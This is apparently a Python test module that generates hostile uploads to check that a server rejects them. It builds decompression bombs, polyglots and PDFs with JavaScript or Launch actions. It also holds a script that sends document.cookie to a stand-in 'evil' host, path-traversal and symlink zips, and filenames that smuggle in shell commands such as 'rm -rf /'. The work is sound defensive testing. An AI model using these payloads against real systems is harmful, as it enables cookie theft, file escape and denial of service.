"""The hostile-file corpus, made by code (nothing is downloaded): bombs, corrupt and truncated
images, polyglots, active PDFs, malformed EXIF, scripts, empty files, hostile bundle zips."""
from __future__ import annotations

import io
import struct
import zipfile
import zlib

from PIL import ExifTags, Image

from tests.evidence_corpus import _png_chunk, executable, photo, png_bomb, truncated_jpeg


def _segments(jpeg: bytes):
    """(offset, marker, length) of each JPEG header segment up to the scan."""
    pos = 2
    while pos < len(jpeg):
        marker = jpeg[pos + 1]
        length = struct.unpack(">H", jpeg[pos + 2:pos + 4])[0]
        yield pos, marker, length
        if marker == 0xDA:
            return
        pos += 2 + length


def jpeg_bomb(width: int = 65_500, height: int = 65_500) -> bytes:
    """A tiny baseline JPEG whose frame header claims 4.3 gigapixels."""
    data = bytearray(photo((16, 16), where=None))
    for pos, marker, _ in _segments(bytes(data)):
        if marker in (0xC0, 0xC1, 0xC2):
            struct.pack_into(">HH", data, pos + 5, height, width)
            return bytes(data)
    raise AssertionError("no SOF segment")


def jpeg_without(marker_to_drop: int) -> bytes:
    """A JPEG with every segment of one kind removed (no Huffman tables, no frame header...)."""
    data = photo((64, 64), where=None)
    out, last = bytearray(data[:2]), 2
    for pos, marker, length in _segments(data):
        if marker != marker_to_drop:
            out += data[pos:pos + 2 + length]
        last = pos + 2 + length
    return bytes(out + data[last:])


def jpeg_undefined_tables() -> bytes:
    """The scan header points every component at Huffman table 3, which no DHT defines."""
    data = bytearray(photo((256, 256), where=None))
    pos = next(pos for pos, marker, _ in _segments(bytes(data)) if marker == 0xDA)
    for component in range(data[pos + 4]):
        data[pos + 6 + 2 * component] = 0x33
    return bytes(data)


def jpeg_bad_frame() -> bytes:
    """A frame header with zero components and 7-bit samples."""
    data = bytearray(photo((64, 64), where=None))
    pos = next(pos for pos, marker, _ in _segments(bytes(data)) if marker == 0xC0)
    data[pos + 4] = 7
    data[pos + 9] = 0
    return bytes(data)


def png_bomb_rgb() -> bytes:
    """A 40000x40000 truecolour PNG header on a few bytes of IDAT (4.8 GB decoded)."""
    ihdr = struct.pack(">IIBBBBB", 40_000, 40_000, 8, 2, 0, 0, 0)
    idat = zlib.compress(b"\x00" * 100_000, 9)
    return b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", ihdr) + _png_chunk(b"IDAT", idat) + _png_chunk(b"IEND", b"")


def png_idat_overflow() -> bytes:
    """A 64x64 greyscale PNG whose IDAT inflates to 64 MB: far more than its rows need."""
    packer = zlib.compressobj(9)
    idat = b"".join(packer.compress(b"\x00" * (1 << 20)) for _ in range(64)) + packer.flush()
    ihdr = struct.pack(">IIBBBBB", 64, 64, 8, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", ihdr) + _png_chunk(b"IDAT", idat) + _png_chunk(b"IEND", b"")


def png_bad_crc() -> bytes:
    data = bytearray(photo((32, 32), fmt="PNG", where=None))
    data[29] ^= 0xFF  # the IHDR CRC
    return bytes(data)


def png_truncated() -> bytes:
    data = photo((300, 300), fmt="PNG", where=None, colour=(1, 2, 3))
    return data[: len(data) // 2]


def small_zip() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("payload.exe", executable())
        archive.writestr("readme.txt", "hidden")
    return out.getvalue()


def pdf(body_objects: list[bytes]) -> bytes:
    """A small, structurally valid PDF with the given objects after the catalog."""
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
               b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>", *body_objects]
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, obj in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + obj + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)


def pdf_javascript() -> bytes:
    return pdf([b"<< /Type /Action /S /JavaScript /JS (app.alert('owned')) >>"])


def pdf_open_action_hex_name() -> bytes:
    """`/J#61vaScript` is `/JavaScript` with a hex escape: name obfuscation."""
    return pdf([b"<< /OpenAction << /S /J#61vaScript /JS (this.exportDataObject()) >> >>"])


def pdf_javascript_in_compressed_stream() -> bytes:
    hidden = zlib.compress(b"<< /S /JavaScript /JS (app.launchURL('http://evil')) >>")
    return pdf([b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(hidden) + hidden + b"\nendstream"])


def pdf_launch() -> bytes:
    return pdf([b"<< /Type /Action /S /Launch /F (cmd.exe) >>"])


def pdf_embedded_file() -> bytes:
    return pdf([b"<< /Type /EmbeddedFile /Length 3 >>\nstream\nabc\nendstream"])


def _jpeg_with_exif(exif: Image.Exif, size=(64, 48)) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, (90, 90, 90)).save(out, "JPEG", exif=exif)
    return out.getvalue()


def exif_oversized_text() -> bytes:
    exif = Image.Exif()
    exif[ExifTags.Base.Make] = "M" * 30_000
    exif[ExifTags.Base.Model] = "\u202e" * 5_000 + "<script>alert(1)</script>"
    exif[ExifTags.Base.ImageDescription] = "\x00" * 20_000
    return _jpeg_with_exif(exif)


def exif_malformed_values() -> bytes:
    exif = Image.Exif()
    details = exif.get_ifd(ExifTags.IFD.Exif)
    details[ExifTags.Base.DateTimeOriginal] = "9999:99:99 99:99:99"
    details[ExifTags.Base.OffsetTimeOriginal] = "+99:99"
    exif.get_ifd(ExifTags.IFD.GPSInfo).update({
        ExifTags.GPS.GPSLatitudeRef: "Q", ExifTags.GPS.GPSLatitude: (4e9, 99.0, 99.5),
        ExifTags.GPS.GPSLongitudeRef: "E", ExifTags.GPS.GPSLongitude: (999.0, 0.0, 0.0),
    })
    return _jpeg_with_exif(exif)


def _raw_exif_jpeg(tiff: bytes) -> bytes:
    """A JPEG whose APP1 carries exactly these TIFF bytes (for structures Pillow will not write)."""
    base = photo((32, 32), where=None)
    app1 = b"Exif\x00\x00" + tiff
    return base[:2] + b"\xff\xe1" + struct.pack(">H", len(app1) + 2) + app1 + base[2:]


def exif_ifd_loop() -> bytes:
    """IFD0 whose next-IFD offset points back at itself, and an Exif IFD pointer to IFD0 too."""
    entries = [(0x8769, 4, 1, 8), (0x010F, 2, 4, 0x41414100)]  # ExifIFD → IFD0; Make "AAA"
    ifd = struct.pack("<H", len(entries)) + b"".join(struct.pack("<HHII", *e) for e in entries) + struct.pack("<I", 8)
    return _raw_exif_jpeg(b"II*\x00" + struct.pack("<I", 8) + ifd)


def exif_zero_denominators() -> bytes:
    """GPS latitude and longitude as rationals with zero denominators (x/0)."""
    gps_offset = 8 + 2 + 12 + 4
    values_offset = gps_offset + 2 + 4 * 12 + 4
    ifd0 = struct.pack("<H", 1) + struct.pack("<HHII", 0x8825, 4, 1, gps_offset) + struct.pack("<I", 0)
    gps = struct.pack("<H", 4) + b"".join(struct.pack("<HHII", *e) for e in [
        (1, 2, 2, ord("N")), (2, 5, 3, values_offset), (3, 2, 2, ord("E")), (4, 5, 3, values_offset + 24)])
    gps += struct.pack("<I", 0)
    rationals = struct.pack("<6I", 31, 0, 0, 0, 1, 0) + struct.pack("<6I", 121, 0, 5, 0, 0, 0)
    return _raw_exif_jpeg(b"II*\x00" + struct.pack("<I", 8) + ifd0 + gps + rationals)


def exif_counts_past_the_end() -> bytes:
    """Tags that claim 2^32-1 values at offsets far past the segment's end."""
    entries = [(0x010F, 2, 0xFFFFFFFF, 0x7FFFFFF0), (0x0110, 2, 0x10000000, 0xFFFFFF00),
               (0x8825, 4, 1, 0xFFFFFFF0)]  # GPS IFD pointer past the end
    ifd = struct.pack("<H", 0xFFFF) + b"".join(struct.pack("<HHII", *e) for e in entries) + struct.pack("<I", 0)
    return _raw_exif_jpeg(b"II*\x00" + struct.pack("<I", 8) + ifd)


SVG_SCRIPT = (b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'
              b"<script>fetch('/api/v1/me')</script></svg>")
HTML_SCRIPT = b"<!DOCTYPE html><html><body><script>document.location='http://evil/'+document.cookie</script>"
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 56
WAV_LYING = b"RIFF\xff\xff\xff\x7fWAVEfmt \x10\x00\x00\x00\x01\x00\x01\x00\x40\x1f\x00\x00\x80>\x00\x00\x02\x00\x10\x00"
MP4_BOX_LOOP = b"\x00\x00\x00\x18ftypisom\x00\x00\x02\x00isomiso2" + b"\x00\x00\x00\x08moov" * 5 + \
               b"\x00\x00\x00\x00trak"  # a size-0 box "to the end" inside a box tree


# (name, bytes factory, declared kind, expected status, expected code or None for any refusal)
REFUSED = [
    ("png-bomb-1bit", png_bomb, "photo", 422, "decompression_bomb"),
    ("png-bomb-rgb", png_bomb_rgb, "photo", 422, "decompression_bomb"),
    ("jpeg-bomb", jpeg_bomb, "photo", 422, "decompression_bomb"),
    ("png-idat-overflow", png_idat_overflow, "photo", 422, None),
    ("jpeg-truncated", truncated_jpeg, "photo", 422, "corrupt_media"),
    ("jpeg-soi-eoi-only", lambda: b"\xff\xd8\xff\xd9", "photo", 422, "corrupt_media"),
    ("jpeg-no-quantization-tables", lambda: jpeg_without(0xDB), "photo", 422, "corrupt_media"),
    ("jpeg-no-frame-header", lambda: jpeg_without(0xC0), "photo", 422, "corrupt_media"),
    ("jpeg-undefined-huffman-table", jpeg_undefined_tables, "photo", 422, "corrupt_media"),
    ("jpeg-bad-frame-header", jpeg_bad_frame, "photo", 422, "corrupt_media"),
    ("png-bad-crc", png_bad_crc, "photo", 422, "corrupt_media"),
    ("png-truncated", png_truncated, "photo", 422, "corrupt_media"),
    ("polyglot-jpeg-zip", lambda: photo() + small_zip(), "photo", 422, "malicious_content"),
    ("polyglot-png-zip", lambda: photo(fmt="PNG", where=None) + small_zip(), "photo", 422, "malicious_content"),
    ("polyglot-pdf-zip", lambda: pdf([]) + small_zip(), "document", 422, "malicious_content"),
    ("pdf-javascript", pdf_javascript, "document", 422, "malicious_content"),
    ("pdf-openaction-hex-escaped", pdf_open_action_hex_name, "document", 422, "malicious_content"),
    ("pdf-javascript-compressed", pdf_javascript_in_compressed_stream, "document", 422, "malicious_content"),
    ("pdf-launch", pdf_launch, "document", 422, "malicious_content"),
    ("pdf-embedded-file", pdf_embedded_file, "document", 422, "malicious_content"),
    ("svg-script", lambda: SVG_SCRIPT, "photo", 415, "unsupported_media_type"),
    ("svg-script-as-document", lambda: SVG_SCRIPT, "document", 415, "unsupported_media_type"),
    ("html-script", lambda: HTML_SCRIPT, "document", 415, "unsupported_media_type"),
    ("pe-executable", executable, "photo", 415, "unsupported_media_type"),
    ("elf-executable", lambda: ELF, "audio", 415, "unsupported_media_type"),
    ("zip", small_zip, "document", 415, "unsupported_media_type"),
    ("zero-bytes", lambda: b"", "photo", 415, "unsupported_media_type"),
    ("zero-bytes-document", lambda: b"", "document", 415, "unsupported_media_type"),
    ("wav-lying-riff-size", lambda: WAV_LYING, "audio", 422, "corrupt_media"),
    ("mp4-box-tree", lambda: MP4_BOX_LOOP, "audio", 422, "corrupt_media"),
    ("photo-declared-document", photo, "document", 422, "media_mismatch"),
]

# Pixels that decode, metadata that does not: kept as evidence (a camera's odd maker note must
# not lose a record), every EXIF text cut to size, nothing of it trusted.
ODD_EXIF = [
    ("exif-oversized-text", exif_oversized_text),
    ("exif-malformed-values", exif_malformed_values),
    ("exif-ifd-loop", exif_ifd_loop),
    ("exif-zero-denominators", exif_zero_denominators),
    ("exif-counts-past-the-end", exif_counts_past_the_end),
]

# Names a client might send; the server never uses them for anything.
HOSTILE_FILENAMES = [
    "../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "/etc/shadow", "C:\\boot.ini",
    "a\x00b.jpg", "line\r\nX-Injected: yes.jpg", "\x1b[31mred.jpg", "\u202egpj.exe", "%2e%2e%2fescape.jpg",
    "x" * 5000 + ".jpg", "", ".", "..", "con.jpg", "photo.jpg;rm -rf /", "$(reboot).jpg", "'\";--.jpg",
]


# --- bundles for verify-bundle ----------------------------------------------------------------


def zip_of(entries: list[tuple[str, bytes]], compression=zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression) as archive:
        for name, data in entries:
            info = zipfile.ZipInfo(name)
            info.compress_type = compression
            archive.writestr(info, data)
    return out.getvalue()


def _deflated(name: str) -> zipfile.ZipInfo:
    info = zipfile.ZipInfo(name)
    info.compress_type = zipfile.ZIP_DEFLATED
    return info


def ratio_bomb(size: int = 200 << 20) -> bytes:
    """One entry of `size` zero bytes, deflated about 1000:1."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive, \
            archive.open(_deflated("manifest.json"), "w", force_zip64=True) as entry:
        block = b"\x00" * (1 << 20)
        for _ in range(size >> 20):
            entry.write(block)
    return out.getvalue()


def lying_header_bomb(real: int = 256 << 20) -> bytes:
    """Central directory says manifest.json is 100 bytes; the deflate stream holds `real` bytes."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    body = b"".join(packer.compress(b"{" * (1 << 20)) for _ in range(real >> 20)) + packer.flush()
    entries = [("manifest.json", body, 100), ("manifest.sig", zlib.compress(b"x")[2:-4], 1),
               ("public_key.pem", zlib.compress(b"x")[2:-4], 1)]
    return _raw_zip(entries)


def overlapping_bomb(copies: int = 2000) -> bytes:
    """Fifield-style: thousands of central-directory entries sharing one compressed kernel."""
    kernel = zlib.compressobj(9, zlib.DEFLATED, -15)
    data = kernel.compress(b"\x00" * (1 << 20)) + kernel.flush()
    crc = zlib.crc32(b"\x00" * (1 << 20))
    local = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0, crc, len(data), 1 << 20, 8, 0) + b"kernel.x"
    central = b""
    for index in range(copies):
        name = f"exhibits/{index:05d}.jpg".encode()
        central += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0, crc, len(data), 1 << 20,
                               len(name), 0, 0, 0, 0, 0, 0) + name
    offset = len(local) + len(data)
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, copies, copies, len(central), offset, 0)
    return local + data + central + end


def _raw_zip(entries: list[tuple[str, bytes, int]]) -> bytes:
    """Deflated entries with the declared (uncompressed) size we choose, CRC of nothing real."""
    local_parts, central, offset = b"", b"", 0
    for name, data, declared in entries:
        raw_name = name.encode()
        header = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0, 0, len(data), declared,
                             len(raw_name), 0) + raw_name
        central += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0, 0, len(data), declared,
                               len(raw_name), 0, 0, 0, 0, 0, offset) + raw_name
        local_parts += header + data
        offset += len(header) + len(data)
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(entries), len(entries), len(central), offset, 0)
    return local_parts + central + end


def many_entries(count: int = 120_000) -> bytes:
    return zip_of([(f"e/{i}", b"") for i in range(count)], zipfile.ZIP_STORED)


def symlink_zip() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        info = zipfile.ZipInfo("manifest.json")
        info.create_system = 3
        info.external_attr = (0o120777 << 16)
        archive.writestr(info, "/etc/passwd")
    return out.getvalue()


TRAVERSAL_NAMES = ["../evil.json", "../../../../tmp/fieldproof-pwned", "/etc/passwd", "exhibits/../../x",
                   "C:\\Windows\\evil.dll", "C:/evil", "exhibits\\..\\..\\x", "./manifest.json",
                   "a/./b", "exhibits//x", "exhibits/./x", "..", "."]
